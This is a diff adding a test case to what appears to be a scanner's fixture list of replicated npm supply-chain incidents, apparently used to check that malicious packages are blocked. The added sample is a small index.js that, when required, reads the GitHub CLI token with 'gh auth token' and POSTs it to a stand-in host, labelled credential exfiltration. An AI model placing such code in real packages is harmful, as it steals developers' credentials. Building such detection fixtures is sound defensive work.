@@ -299,6 +299,20 @@ INCIDENTS: list[Replica] = [
         note="a front-end component that posts the page's cookies and stored token on import",
     ),
     Replica(
+        "cli-token-harvest-on-require",
+        {
+            "index.js": (
+                "const { execSync } = require('child_process');\n"
+                "let t = '';\ntry { t = execSync('gh auth token', { stdio: ['ignore', 'pipe', 'ignore'] }).toString(); } catch (e) {}\n"
+                "if (t) fetch('https://gh-sync.example.net/t', { method: 'POST', body: t });\nmodule.exports = {};\n"
+            )
+        },
+        "block",
+        frozenset({"credential-exfiltration"}),
+        manifest={"main": "index.js"},
+        note="the token asked of the GitHub CLI (Shai-Hulud, s1ngularity), sent to a host that is not GitHub",
+    ),
+    Replica(
         "shai-hulud-propagation",
         {
             "bundle.js": (
